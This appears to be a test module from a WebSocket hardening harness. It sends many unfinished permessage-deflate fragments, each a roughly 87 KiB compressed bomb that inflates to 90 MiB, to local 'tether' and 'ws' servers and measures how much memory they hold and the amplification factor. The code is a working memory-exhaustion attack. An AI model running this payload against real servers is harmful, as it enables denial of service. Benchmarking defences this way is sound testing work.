// Compressed fragments: connections negotiate permessage-deflate, and each sends the
// first fragment (FIN clear, RSV1 set) of a message that is almost all zeros: about
// 87 KiB of DEFLATE that inflates to just under the default maxPayload of 100 MiB. Then
// they stall: the message never ends. A server that inflates each fragment as it comes
// holds the inflated bytes for every such connection. Both libraries default to
// perMessageDeflate: false, so the servers here run with perMessageDeflate: true and
// nothing else changed.
import { deflateRawSync, constants as zlib } from 'node:zlib'

import { againstTarget, clientFrame, delay, describeCloses, describeTally, MiB, OPCODE, rawUpgrade, sampleMemory, serversFor, size, tally, thin, watchSocket } from '../lib.mjs'

export const name = 'compressed-fragments'
export const title = 'unfinished compressed fragments'

const SETTINGS = {
  long: { connections: 30, waitMs: 20_000, settleMs: 2_000 },
  quick: { connections: 8, waitMs: 8_000, settleMs: 1_000 },
}
/** What each fragment inflates to: under the 100 MiB default maxPayload. */
const INFLATED = 90 * MiB
const SERVERS = [
  ['tether', 'port'],
  ['ws', 'port'],
]
/** The server is taken to have finished inflating once its RSS moved less than this over STABLE_MS. */
const STABLE_BYTES = 2 * MiB
const STABLE_MS = 1_500

let deflated
/** The DEFLATE stream of INFLATED zero bytes, ending on a sync flush (no final block: more could follow). */
function bomb() {
  deflated ??= (() => {
    const stream = deflateRawSync(Buffer.alloc(INFLATED), { level: 9, finishFlush: zlib.Z_SYNC_FLUSH })
    return stream.subarray(0, stream.length - 4) // the 00 00 FF FF tail, as RFC 7692 §7.2.1 removes it
  })()
  return deflated
}

export async function run({ quick, targets }) {
  const settings = quick ? SETTINGS.quick : SETTINGS.long
  const payload = bomb()
  const rows = []
  for (const [impl, mode] of serversFor(SERVERS, targets)) {
    const variant = `${settings.connections} conns x ${size(payload.length)} -> ${size(INFLATED)}`
    rows.push({ attack: name, variant, ...(await againstTarget(impl, mode, { deflate: true }, (server, before) => attack(server, before, settings, payload))) })
  }
  return rows
}

async function attack(server, before, { connections, waitMs, settleMs }, payload) {
  const memory = sampleMemory(server.pid)
  const frame = clientFrame({ opcode: OPCODE.binary, fin: false, rsv1: true, payload })
  const started = performance.now()
  const attempts = await Promise.allSettled(
    Array.from({ length: connections }, () =>
      rawUpgrade(server.port, { path: '/compressed', headers: { 'Sec-WebSocket-Extensions': 'permessage-deflate; client_max_window_bits' } }),
    ),
  )
  const peers = []
  let attackerBytes = 0
  for (const attempt of attempts) {
    if (attempt.status === 'rejected') {
      peers.push({ failure: attempt.reason.message })
      continue
    }
    const { socket, status, headers, rest, requestBytes } = attempt.value
    attackerBytes += requestBytes
    if (status !== 101 || !/permessage-deflate/.test(headers['sec-websocket-extensions'] ?? '')) {
      peers.push({ failure: status === 101 ? 'deflate not negotiated' : `HTTP ${status}` })
      socket.destroy()
      continue
    }
    const watch = watchSocket(socket, rest, { hash: false })
    socket.write(frame)
    attackerBytes += frame.length
    peers.push({ socket, watch })
  }
  // Wait until every connection ended, or the server's RSS stopped moving, or the time cap.
  const live = peers.filter((p) => p.socket)
  let lastRss = server.rss()
  let stableSince = performance.now()
  while (performance.now() - started < waitMs && live.some((p) => !p.socket.destroyed)) {
    await delay(250)
    const rss = server.rss()
    if (Math.abs(rss - lastRss) > STABLE_BYTES) {
      lastRss = rss
      stableSince = performance.now()
    } else if (performance.now() - stableSince > STABLE_MS) break
  }
  const rssHeld = server.rss()
  const during = await server.stats(10_000)
  const outcomes = tally(
    peers.map((p) =>
      p.failure ?? (p.watch.reader.close ? `closed ${p.watch.reader.close.code}` : p.socket.destroyed ? `ended (${p.watch.ended})` : 'still open'),
    ),
  )
  for (const peer of live) peer.socket.destroy()
  const { peak, samples } = memory.stop()
  const settled = await server.settle(settleMs)
  const growth = peak - before
  return {
    rss: { before, peak, after: settled.rss },
    attackerBytes,
    outcome: `x${(growth / attackerBytes).toFixed(0)} the attacker's bytes; connections: ${describeTally(outcomes)}; ${describeCloses(settled.stats)}`,
    measures: {
      growth,
      retained: settled.rss - before,
      amplification: growth / attackerBytes,
      rssWhileHeld: rssHeld,
      connections,
      outcomes,
      compressedBytes: payload.length,
      inflatedBytes: INFLATED,
      limitStats: during?.limitStats,
      memoryWhileHeld: during?.memory,
      memoryAfter: settled.stats?.memory,
      samples: thin(samples),
    },
  }
}
